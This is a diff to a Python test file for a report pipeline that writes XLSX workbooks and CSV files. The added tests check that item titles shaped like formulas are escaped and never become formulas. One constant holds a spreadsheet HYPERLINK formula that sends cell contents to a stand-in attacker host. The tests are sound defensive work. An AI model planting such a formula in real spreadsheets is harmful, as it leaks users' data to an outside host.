@@ -2,13 +2,16 @@
 
 from __future__ import annotations
 
+import copy
 import csv
 import io
 
 from openpyxl import load_workbook
 
-from pipeline.report.content import ReportContent
+from pipeline.report.content import ReportContent, build_content
 from pipeline.report.render.sheets import items_csv, render_xlsx, tables_csv
+from pipeline.settings import DATA_DIR, ReportSettings
+from pipeline.taxonomy import load_taxonomy
 
 
 def test_csv_holds_the_counted_items_and_every_table(content: ReportContent) -> None:
@@ -34,3 +37,29 @@ def test_xlsx_has_an_items_sheet_and_one_sheet_per_table(content: ReportContent)
     totals = list(workbook["Số liệu chung"].iter_rows(values_only=True))
     assert totals[0][:2] == ("Chỉ tiêu", "Kỳ này")
     assert totals[2][1] == content.snapshot.summary.totals["hai_phong"]
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+
+
+def _hostile(content: ReportContent) -> ReportContent:
+    """The same report with every item titled like a formula (titles reach the tables too)."""
+    snap = copy.deepcopy(content.snapshot)
+    for item in snap.items:
+        item["title"] = HOSTILE
+    return build_content(snap, load_taxonomy(DATA_DIR / "taxonomy.yaml"), ReportSettings())
+
+
+def test_no_title_becomes_a_formula_in_the_workbook(content: ReportContent) -> None:
+    workbook = load_workbook(io.BytesIO(render_xlsx(_hostile(content))))
+    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    titles = [c for c in cells if isinstance(c.value, str) and HOSTILE in c.value]
+    assert len(titles) > 300 and all(c.value == "'" + HOSTILE and c.data_type == "s" for c in titles)
+
+
+def test_no_title_starts_like_a_formula_in_the_csv_files(content: ReportContent) -> None:
+    hostile = _hostile(content)
+    for data in (items_csv(hostile), tables_csv(hostile)):
+        values = [v for row in csv.reader(io.StringIO(data.decode("utf-8"))) for v in row]
+        assert HOSTILE not in values and "'" + HOSTILE in values
